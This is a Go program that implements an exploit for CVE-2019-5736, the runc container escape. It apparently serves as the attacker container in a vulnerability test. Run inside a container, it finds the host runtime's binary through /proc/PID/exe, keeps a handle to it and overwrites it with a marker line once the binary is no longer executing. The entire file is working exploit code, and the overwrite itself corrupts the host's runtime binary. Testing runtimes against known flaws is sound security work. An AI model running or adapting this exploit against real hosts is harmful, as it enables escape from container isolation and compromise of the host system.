// SPDX-License-Identifier: MIT

//go:build linux

// Attacker is the container of CVE-2019-5736. Its first process waits for another process that runs
// a program from outside the container, which is the runtime, and holds that program by
// /proc/PID/exe. It overwrites the program as soon as nobody executes it, and prints the result.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const patience = 5 * time.Minute

func main() {
	fmt.Println("ready")
	held, name := hold(time.Now().Add(patience))
	if held < 0 {
		fmt.Println("attack: nothing to be held")
		return
	}
	fmt.Println("attack:", overwrite(held, time.Now().Add(patience)), name)
}

// hold opens the program of the first process that runs no program of the container's root file
// system.
func hold(end time.Time) (int, string) {
	var own unix.Stat_t
	unix.Stat("/", &own)
	for time.Now().Before(end) {
		found, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, path := range found {
			fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var file unix.Stat_t
			if unix.Fstat(fd, &file) == nil && file.Dev != own.Dev {
				link, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
				return fd, strings.Fields(link + " ?")[0]
			}
			unix.Close(fd)
		}
	}
	return -1, ""
}

// overwrite tries until the program is no longer executed, first as it is, then with its
// permissions changed.
func overwrite(held int, end time.Time) string {
	path := fmt.Sprintf("/proc/self/fd/%d", held)
	for {
		unix.Chmod(path, 0777)
		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if errors.Is(err, unix.ETXTBSY) && time.Now().Before(end) {
			continue
		}
		if err == nil {
			_, err = unix.Pwrite(fd, []byte("#!/overwritten\n"), 0)
		}
		if err == nil {
			return "overwritten"
		}
		return err.Error()
	}
}
